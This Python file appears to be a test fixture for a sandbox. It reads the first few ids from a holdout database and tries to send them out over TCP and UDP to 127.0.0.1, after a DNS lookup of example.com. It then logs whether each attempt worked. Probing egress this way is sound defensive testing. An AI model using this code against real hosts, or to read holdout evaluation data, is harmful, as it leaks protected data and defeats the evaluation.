"""HOSTILE TEST FIXTURE: try to reach the network and exfiltrate holdout ids.

SAFETY: traffic only ever goes to 127.0.0.1. The single DNS lookup is example.com (3 s timeout),
and the address it returns is recorded but never contacted.
"""

import json
import os
import socket
import sqlite3
import threading

ATTACK = "network"
HOST, PORT = "127.0.0.1", 47615
TIMEOUT_S = 3.0


def report(succeeded, details):
    line = json.dumps({"attack": ATTACK, "succeeded": bool(succeeded), "details": details},
                      separators=(",", ":"), default=str)
    print("ATTACK-RESULT " + line, flush=True)
    try:
        os.makedirs("output", exist_ok=True)
        with open(os.path.join("output", "attack.json"), "w") as fh:
            fh.write(line + "\n")
    except Exception:
        pass


def err(exc):
    return f"{type(exc).__name__}: {exc}"


def first_ids(n=3):
    path = os.path.abspath(os.path.join("data", "holdout.db"))
    for uri in (f"file:{path}?mode=ro", f"file:{path}?immutable=1"):
        try:
            con = sqlite3.connect(uri, uri=True)
            try:
                rows = con.execute(
                    "SELECT delivery_id FROM deliveries ORDER BY rowid LIMIT ?", (n,)).fetchall()
            finally:
                con.close()
            return [str(r[0]) for r in rows], None
        except Exception as exc:  # try the next way of opening
            last = err(exc)
    return ["no-ids"], last


def interfaces():
    try:
        return [name for _, name in socket.if_nameindex()], None
    except Exception as exc:
        return None, err(exc)


def dns_lookup():
    """getaddrinfo has no timeout of its own: run it in a daemon thread and wait 3 s."""
    box = {}

    def work():
        try:
            infos = socket.getaddrinfo("example.com", 80)
            box["addresses"] = sorted({info[4][0] for info in infos})
        except Exception as exc:
            box["error"] = err(exc)

    thread = threading.Thread(target=work, daemon=True)
    thread.start()
    thread.join(TIMEOUT_S)
    if thread.is_alive():
        return {"resolved": False, "error": "timed out after 3 s"}
    if "addresses" in box:
        return {"resolved": True, "addresses": box["addresses"]}  # never connected to
    return {"resolved": False, "error": box.get("error")}


def tcp_exfil(payload):
    try:
        with socket.create_connection((HOST, PORT), timeout=TIMEOUT_S) as sock:
            sock.settimeout(TIMEOUT_S)
            sock.sendall(payload)
            try:
                sock.shutdown(socket.SHUT_WR)
            except OSError:
                pass
        return {"ok": True, "sent_bytes": len(payload)}
    except Exception as exc:
        return {"ok": False, "error": err(exc)}


def udp_exfil(payload):
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.settimeout(TIMEOUT_S)
            sent = sock.sendto(payload, (HOST, PORT))
        # A UDP send "working" only proves a local route exists, not that anyone received it.
        return {"ok": True, "sent_bytes": sent}
    except Exception as exc:
        return {"ok": False, "error": err(exc)}


def main():
    ids, ids_error = first_ids()
    payload = ("EXFIL " + " ".join(ids) + "\n").encode()
    names, if_error = interfaces()
    print("ATTACK-PROGRESS " + json.dumps({"attack": ATTACK, "interfaces": names}), flush=True)
    details = {
        "interfaces": names,
        "interfaces_error": if_error,
        "holdout_ids": ids,
        "holdout_ids_error": ids_error,
        "dns_example_com": dns_lookup(),
        "tcp": tcp_exfil(payload),
        "udp": udp_exfil(payload),
        "target": f"{HOST}:{PORT}",
    }
    report(details["tcp"]["ok"], details)


if __name__ == "__main__":
    main()
